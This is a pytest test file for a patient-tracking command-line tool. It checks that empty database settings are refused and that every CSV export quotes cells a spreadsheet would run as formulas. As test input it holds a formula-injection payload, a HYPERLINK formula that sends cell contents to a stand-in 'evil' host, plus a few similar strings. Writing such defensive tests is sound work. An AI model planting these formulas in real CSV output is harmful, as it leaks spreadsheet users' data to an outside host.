"""Issue 15, records that can be trusted: empty database settings, refusals that change nothing,
CSV cells that never run as formulas, outputs written whole and private, and flags marked seen
only once shown."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pytest

from tests.conftest import EXAMPLES, REPO, Cli, subprocess_env


def _tracker(*args: str, env: dict[str, str] | None = None, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "tracker", *args], capture_output=True, text=True,
                          env=subprocess_env(**(env or {})), cwd=cwd or REPO, timeout=120, check=False)


# ----------------------------------------------------------------------------- item 9: --db '' and TRACKER_DB=''


@pytest.mark.parametrize(("args", "env"), [(["--db", ""], {}), (["--db", "  "], {}), ([], {"TRACKER_DB": ""})],
                         ids=["--db ''", "--db blank", "TRACKER_DB=''"])
def test_an_empty_database_setting_is_refused_not_replaced_by_the_default(
        args: list[str], env: dict[str, str], tmp_path: Path) -> None:
    """An empty --db or TRACKER_DB is one sentence and exit 1; the default database is not made."""
    r = _tracker(*args, "patient", "list", env={"TRACKER_HOME": str(tmp_path), **env})
    assert r.returncode == 1, r.stderr
    assert r.stderr.strip() == ("Error: --db or TRACKER_DB is empty; give a database file path or URL, or unset "
                                "TRACKER_DB to use the default database")
    assert r.stdout == "" and os.listdir(tmp_path) == []


# ----------------------------------------------------------------------------- item 5: CSV formula injection

_EVIL = '=HYPERLINK("http://evil/?"&A1,"x")'


@pytest.mark.parametrize("text", [_EVIL, "+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_a_cell_a_spreadsheet_would_run_gets_a_quote(text: str) -> None:
    from tracker import jsonio

    assert jsonio.csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-3, Decimal("-1.5"), 0.25, "-3.5", "+2", "12", "SYN-001", "a=b", "", True])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    from tracker import jsonio

    assert jsonio.csv_cell(value) == value
    assert jsonio.csv_cell(None) == ""


def _cells(out: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(out)) for c in row]


def test_every_csv_the_tool_writes_neutralises_formulas(sqlite_url: str) -> None:
    """A formula typed into any text (notes, reasons, symptoms) is a quoted text cell in every CSV
    output: export, history, audit, patient list, flags, flag history, schedule, worklist,
    measures, protocols; numbers stay numbers."""
    cli = Cli(sqlite_url)
    day = ["--as-of", "2026-11-22"]
    assert cli("import", str(EXAMPLES / "syn-growing.json"), *day).exit_code == 0
    r = cli("log", "visit", "SYN-GROWING", "--date", "2026-11-01", "--notes", _EVIL, *day)
    assert r.exit_code == 0, r.output
    r = cli("flag", "ack", "SYN-GROWING", "growth.absolute", "--reason", "@SUM(1+1)*cmd", *day)
    assert r.exit_code == 0, r.output
    outputs = {}
    for args in (["export", "SYN-GROWING", "--format", "csv"], ["history", "SYN-GROWING"], ["audit", "SYN-GROWING"],
                 ["patient", "list"], ["flags", "SYN-GROWING", *day], ["flags", "SYN-GROWING", "--history"],
                 ["schedule", "SYN-GROWING", *day], ["worklist", *day], ["measures", "SYN-GROWING"],
                 ["protocol", "list"], ["protocol", "show", "pnet-small-nf"]):
        fmt = [] if args[0] == "export" else ["--format", "csv"]
        r = cli(*args, *fmt)
        assert r.exit_code == 0, (args, r.output)
        outputs[args[0] + " " + args[1]] = r.stdout
        for cell in _cells(r.stdout):
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (args, cell)
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), (args, cell)
    assert "'" + _EVIL in _cells(outputs["export SYN-GROWING"])
    assert "'@SUM(1+1)*cmd" in _cells(outputs["audit SYN-GROWING"])
    exported = list(csv.DictReader(io.StringIO(outputs["export SYN-GROWING"])))
    assert any(row["item"] == "chromogranin_a" and row["value"] == "130" for row in exported)  # numbers stay numbers
